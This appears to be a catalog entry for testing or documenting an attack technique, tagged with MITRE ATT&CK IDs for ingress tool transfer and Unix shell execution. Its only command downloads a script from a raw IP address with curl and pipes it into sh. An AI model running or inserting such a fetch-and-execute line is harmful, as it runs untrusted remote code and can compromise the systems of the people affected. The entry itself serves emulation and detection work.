# title: A script is downloaded and run in one line
# technique: T1105 T1059.004
# needs: curl
# short: yes

curl -fsSL http://192.88.99.7/x.sh | sh
